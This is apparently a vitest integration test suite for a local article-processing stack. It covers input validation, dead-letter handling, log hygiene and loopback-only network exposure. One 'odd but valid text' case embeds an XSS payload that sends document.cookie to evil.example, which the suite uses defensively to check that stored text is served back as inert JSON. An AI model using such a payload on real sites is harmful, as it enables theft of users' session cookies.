// Bad input, odd input and the local security properties, through the whole local
// stack with the real handlers and the real coder:
//   - each kind of bad request gets a 4xx JSON error naming the field, and nothing is
//     put on the bus or stored;
//   - an invalid ArticlePublished put straight on the bus is not stored and ends in the
//     DLQ with its reason, after the configured receives (not retried forever);
//   - odd but valid text is accepted and coded, and every API answer is JSON with nosniff;
//   - logs never hold an article body, even at DEBUG;
//   - nothing listens beyond 127.0.0.1, and DynamoDB Local refuses browsers' cross-origin calls.
import { randomUUID } from "node:crypto";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { connect } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { EventBridgeClient, PutEventsCommand } from "@aws-sdk/client-eventbridge";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { EventEnvelope } from "../../../local/event-bus.js";
import { type LocalStack, startLocalStack } from "../../../local/stack.js";
import { listDeadLetters, redriveDeadLetters } from "../../../scripts/redrive.js";
import { createShortArticle, waitFor } from "../../support/articles.js";

let stack: LocalStack;
let dataDir: string;
const lines: string[] = [];
const errors: string[] = [];
/** Everything written to stdout and stderr while the stack runs: the handlers' logs. */
let output = "";
const restoreWrites: Array<() => void> = [];

/** A marker no log line may contain: it sits in the middle of each body this file sends. */
const bodyMarker = `BODYMARKER${randomUUID().replaceAll("-", "")}`;
const markedBody = (lead: string) =>
  `${lead} China met Russia in Moscow for talks. ${"Officials spoke at length. ".repeat(40)}${bodyMarker} ${"The talks went on. ".repeat(40)}France condemned Japan.`;

function captureOutput(stream: NodeJS.WriteStream): void {
  const original = stream.write.bind(stream);
  stream.write = ((chunk: unknown, ...rest: unknown[]) => {
    const text = typeof chunk === "string" ? chunk : Buffer.from(chunk as Uint8Array).toString("utf8");
    output += text;
    // The handlers' JSON log lines are kept for the assertions, not echoed into the test report.
    if (text.startsWith('{"level":')) return true;
    return (original as (...args: unknown[]) => boolean)(chunk, ...rest);
  }) as typeof stream.write;
  restoreWrites.push(() => {
    stream.write = original as typeof stream.write;
  });
}

async function readArchive(): Promise<EventEnvelope[]> {
  const text = await readFile(stack.archivePath, "utf8").catch(() => "");
  return text
    .split("\n")
    .filter((line) => line.length > 0)
    .map((line) => JSON.parse(line) as EventEnvelope);
}

async function deadLetterLines(): Promise<number> {
  const text = await readFile(join(dataDir, "dead-letters.jsonl"), "utf8").catch(() => "");
  return text.split("\n").filter((line) => line.length > 0).length;
}

/** `contentType: null` sends no Content-Type header at all. */
function post(body: string, contentType: string | null = "application/json") {
  const headers = new Headers();
  if (contentType !== null) headers.set("content-type", contentType);
  // A string body would otherwise get text/plain; a Blob without a type sends none.
  return fetch(`${stack.url}/articles`, {
    method: "POST",
    headers,
    body: contentType === null ? new Blob([body]) : body,
  });
}

function expectSafeJson(res: Response): void {
  expect(res.headers.get("content-type")).toMatch(/^application\/json/);
  expect(res.headers.get("x-content-type-options")).toBe("nosniff");
}

async function waitUntilCoded(id: string): Promise<Response> {
  return waitFor(async () => {
    const res = await fetch(`${stack.url}/articles/${encodeURIComponent(id)}`);
    if (res.status === 200) return res;
    await res.body?.cancel();
    return undefined;
  }, 100);
}

beforeAll(async () => {
  // The handlers read their log level at their cold start, inside startLocalStack.
  process.env.POWERTOOLS_LOG_LEVEL = "DEBUG";
  captureOutput(process.stdout);
  captureOutput(process.stderr);
  dataDir = await mkdtemp(join(tmpdir(), "attache-edge-"));
  stack = await startLocalStack({
    port: 0,
    dataDir,
    dynamoDbEndpoint: process.env.ATTACHE_TEST_DYNAMODB_ENDPOINT!,
    tableName: `edge-${randomUUID()}`,
    log: (line) => lines.push(line),
    logError: (line) => errors.push(line),
    coderQueue: { maxBatchingWindowMs: 20, visibilityTimeoutMs: 300, maxReceiveCount: 2 },
    stream: { pollIntervalMs: 50 },
  });
});

afterAll(async () => {
  await stack?.stop();
  for (const restore of restoreWrites) restore();
  await rm(dataDir, { recursive: true, force: true });
});

describe("bad input at the API", () => {
  const valid = createShortArticle("edge-valid-shape");
  const cases: Array<[string, string, string | null, number, string, string]> = [
    ["malformed JSON", '{"id": "edge-bad-1", "title": ', "application/json", 400, "MalformedJson", ""],
    [
      "a wrong content type",
      JSON.stringify(valid),
      "text/plain",
      415,
      "UnsupportedMediaType",
      "content-type",
    ],
    ["no content type", JSON.stringify(valid), null, 415, "UnsupportedMediaType", "content-type"],
    ["an empty body", "", "application/json", 400, "EmptyBody", ""],
    [
      "a missing field",
      JSON.stringify({ ...valid, id: "edge-bad-2", title: undefined }),
      "application/json",
      400,
      "ValidationFailed",
      "title",
    ],
    [
      "a mistyped field",
      JSON.stringify({ ...valid, id: "edge-bad-3", body: 42 }),
      "application/json",
      400,
      "ValidationFailed",
      "body",
    ],
    [
      "an invalid publishedAt",
      JSON.stringify({ ...valid, id: "edge-bad-4", publishedAt: "2025-02-30" }),
      "application/json",
      400,
      "ValidationFailed",
      "publishedAt",
    ],
    [
      "a body over the size limit",
      JSON.stringify({ ...valid, id: "edge-bad-5", body: "x".repeat(200_001) }),
      "application/json",
      413,
      "PayloadTooLarge",
      "body",
    ],
    [
      "an unknown language",
      JSON.stringify({ ...valid, id: "edge-bad-6", language: "xx" }),
      "application/json",
      400,
      "UnsupportedLanguage",
      "language",
    ],
  ];

  it.each(cases)(
    "refuses %s with a JSON error naming the field",
    async (_name, body, type, status, code, path) => {
      const res = await post(body, type);
      expect(res.status).toBe(status);
      expectSafeJson(res);
      const json = (await res.json()) as {
        error: { code: string; message: string; issues: { path: string }[] };
      };
      expect(json.error.code).toBe(code);
      expect(json.error.message.length).toBeGreaterThan(0);
      expect(json.error.issues.map((issue) => issue.path)).toContain(path);
    },
  );

  it("put nothing on the bus and stored nothing for any of them", async () => {
    // A valid article sent after them is coded: once its ArticleCoded is out, anything the
    // refused requests had started would be visible too.
    const probe = createShortArticle("edge-after-refusals");
    expect((await post(JSON.stringify(probe))).status).toBe(202);
    await waitUntilCoded(probe.id);
    const archive = await readArchive();
    const published = archive.filter((e) => e["detail-type"] === "ArticlePublished");
    expect(published.map((e) => (e.detail as { id: string }).id)).not.toContain("edge-valid-shape");
    expect(
      published.map((e) => (e.detail as { id: string }).id).filter((id) => id.startsWith("edge-bad")),
    ).toEqual([]);
    for (let i = 1; i <= 6; i += 1) {
      const res = await fetch(`${stack.url}/articles/edge-bad-${i}`);
      expect(res.status).toBe(404);
      expectSafeJson(res);
      await res.body?.cancel();
    }
  });
});

describe("bad input on the bus", () => {
  it("does not store an invalid ArticlePublished put on the bus, and dead-letters it with the reason", async () => {
    const client = new EventBridgeClient({
      region: "us-east-1",
      endpoint: stack.url,
      credentials: { accessKeyId: "local", secretAccessKey: "local" },
    });
    const bad = {
      ...createShortArticle("edge-bus-bad"),
      publishedAt: "not a date",
      body: markedBody("Bus."),
    };
    const answer = await client.send(
      new PutEventsCommand({
        Entries: [
          {
            EventBusName: stack.eventBusName,
            Source: "attache.articles",
            DetailType: "ArticlePublished",
            Detail: JSON.stringify(bad),
          },
        ],
      }),
    );
    client.destroy();
    // The bus accepts it (EventBridge does not validate details); the coder refuses it.
    expect(answer.FailedEntryCount).toBe(0);

    const deadLetter = await waitFor(async () => {
      const text = await readFile(join(dataDir, "dead-letters.jsonl"), "utf8").catch(() => "");
      const found = text
        .split("\n")
        .filter((line) => line.length > 0)
        .map((line) => JSON.parse(line) as { reason: string; receiveCount: number; body: string })
        .find((line) => line.body.includes("edge-bus-bad"));
      return found;
    }, 100);
    expect(deadLetter.receiveCount).toBe(2);
    expect(deadLetter.reason).toMatch(
      /^InvalidInputError: message is not a valid ArticlePublished event \(detail\.publishedAt: must be an ISO 8601/,
    );
    const health = (await (await fetch(`${stack.url}/health`)).json()) as {
      queues: Record<string, { visible: number; inFlight: number }>;
    };
    expect(health.queues["attache-local-coder-dlq"]?.visible).toBeGreaterThanOrEqual(1);
    const res = await fetch(`${stack.url}/articles/edge-bus-bad`);
    expect(res.status).toBe(404);
    await res.body?.cancel();
    // The operator's view names the article and the reason, and shows no body.
    const listed = await listDeadLetters(stack.url);
    const entry = listed["attache-local-coder-dlq"]?.find((letter) => letter.articleId === "edge-bus-bad");
    expect(entry).toMatchObject({ receiveCount: 2, failureReason: deadLetter.reason });
    expect(JSON.stringify(listed)).not.toContain(bodyMarker);

    // A redrive puts it back on the coder's queue; still invalid, it returns to the DLQ
    // after the configured receives again, rather than circling forever.
    const before = await deadLetterLines();
    const moved = await redriveDeadLetters(stack.url);
    expect(moved["attache-local-coder-dlq"]).toBeGreaterThanOrEqual(1);
    await waitFor(async () => ((await deadLetterLines()) > before ? true : undefined), 100);
    expect(
      (await listDeadLetters(stack.url))["attache-local-coder-dlq"]?.filter(
        (l) => l.articleId === "edge-bus-bad",
      ),
    ).toHaveLength(1);

    const archive = await readArchive();
    expect(
      archive.filter(
        (e) =>
          e.source === "attache.coder" && (e.detail as { articleId?: string }).articleId === "edge-bus-bad",
      ),
    ).toEqual([]);
  });
});

describe("odd but valid text", () => {
  const odd: Array<[string, string]> = [
    [
      "HTML and script",
      `<p onclick="alert(1)">China met <b>Russia</b></p><script>document.location='https://evil.example/?c='+document.cookie</script> ${markedBody("Html.")}`,
    ],
    [
      "control characters",
      `China\u0000 met\u0007 Russia\u001b[31m in\u0008 Moscow.\r\n\tFrance\u000b condemned Japan.\u007f`,
    ],
    [
      "scripts other than Latin, and emoji",
      "中国外长王毅会见俄罗斯外长拉夫罗夫。 Владимир Путин встретился с Си Цзиньпином. الصين وروسيا تعقدان محادثات 🇨🇳🤝🇷🇺 China met Russia.",
    ],
    [
      "no punctuation at all",
      "china met russia in moscow france condemned japan beijing said nothing else happened today",
    ],
    [
      "one enormous sentence",
      `China met Russia ${Array.from({ length: 5_000 }, (_, i) => `and France condemned Japan ${i}`).join(" ")}`,
    ],
  ];

  it.each(odd)("accepts and codes %s, and serves it back as inert JSON", async (name, body) => {
    const article = {
      ...createShortArticle(`edge-odd-${name.replaceAll(" ", "-").replace(/[^a-z-]/g, "")}`),
      body,
    };
    const posted = await post(JSON.stringify(article));
    expect(posted.status).toBe(202);
    expectSafeJson(posted);
    await posted.body?.cancel();
    const res = await waitUntilCoded(article.id);
    expectSafeJson(res);
    const view = (await res.json()) as { article: { body: string; version: number }; events: unknown[] };
    // Stored exactly as sent: nothing stripped, nothing rewritten.
    expect(view.article.body).toBe(body);
    expect(view.article.version).toBe(1);
    expect(Array.isArray(view.events)).toBe(true);
  });
});

describe("logs", () => {
  it("never contain an article body, coded or refused, even at DEBUG", async () => {
    const article = { ...createShortArticle("edge-log-body"), body: markedBody("Logged.") };
    expect((await post(JSON.stringify(article))).status).toBe(202);
    const refused = await post(JSON.stringify({ ...article, id: "edge-log-refused", publishedAt: "soon" }));
    expect(refused.status).toBe(400);
    const malformed = await post(`{"id":"edge-log-malformed","body":"${markedBody("Broken.")}"`);
    expect(malformed.status).toBe(400);
    await waitUntilCoded(article.id);
    // The handlers did log (DEBUG), so the absence below means something.
    expect(output).toMatch(/"level":"(INFO|DEBUG)"/);
    expect(output).toContain("edge-log-body");
    expect(output).not.toContain(bodyMarker);
    expect(lines.join("\n")).not.toContain(bodyMarker);
    expect(errors.join("\n")).not.toContain(bodyMarker);
  });
});

describe("network exposure", () => {
  const port = () => Number(new URL(stack.url).port);

  function tryConnect(host: string, target: number): Promise<"connected" | string> {
    return new Promise((resolve) => {
      const socket = connect({ host, port: target });
      socket.once("connect", () => {
        socket.destroy();
        resolve("connected");
      });
      socket.once("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
    });
  }

  /** Every address of this machine other than loopback (link-local IPv6 with its interface). */
  const externalAddresses = () =>
    Object.entries(networkInterfaces()).flatMap(([name, addresses]) =>
      (addresses ?? [])
        .filter((address) => !address.internal)
        .map((address) =>
          address.address.startsWith("fe80:") ? `${address.address}%${name}` : address.address,
        ),
    );

  it("serves the API and the bus on 127.0.0.1 and on no other address", async () => {
    expect(stack.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    expect(await tryConnect("127.0.0.1", port())).toBe("connected");
    expect(await tryConnect("::1", port())).not.toBe("connected");
    for (const address of externalAddresses()) {
      expect([address, await tryConnect(address, port())]).toEqual([address, "ECONNREFUSED"]);
    }
  });

  it("answers the stack's own routes as JSON with nosniff, and refuses a redrive a web page could send", async () => {
    for (const path of ["/health", "/admin/dlq", "/no-such-route"]) {
      const res = await fetch(`${stack.url}${path}`);
      expectSafeJson(res);
      await res.body?.cancel();
    }
    // A form post (no preflight in a browser) is refused.
    const form = await fetch(`${stack.url}/admin/dlq/redrive`, {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: "a=1",
    });
    expect(form.status).toBe(415);
    await form.body?.cancel();
  });

  it("DynamoDB Local gives browsers no cross-origin access", async () => {
    const endpoint = process.env.ATTACHE_TEST_DYNAMODB_ENDPOINT!;
    const preflight = await fetch(endpoint, {
      method: "OPTIONS",
      headers: {
        origin: "http://evil.example",
        "access-control-request-method": "POST",
        "access-control-request-headers": "content-type,x-amz-target,authorization",
      },
    });
    await preflight.body?.cancel();
    expect(preflight.headers.get("access-control-allow-origin")).toBeNull();
    const call = await fetch(endpoint, {
      method: "POST",
      headers: {
        origin: "http://evil.example",
        "content-type": "application/x-amz-json-1.0",
        "x-amz-target": "DynamoDB_20120810.ListTables",
        authorization:
          "AWS4-HMAC-SHA256 Credential=local/20200101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=local",
      },
      body: "{}",
    });
    await call.body?.cancel();
    expect(call.headers.get("access-control-allow-origin")).toBeNull();
  });
});
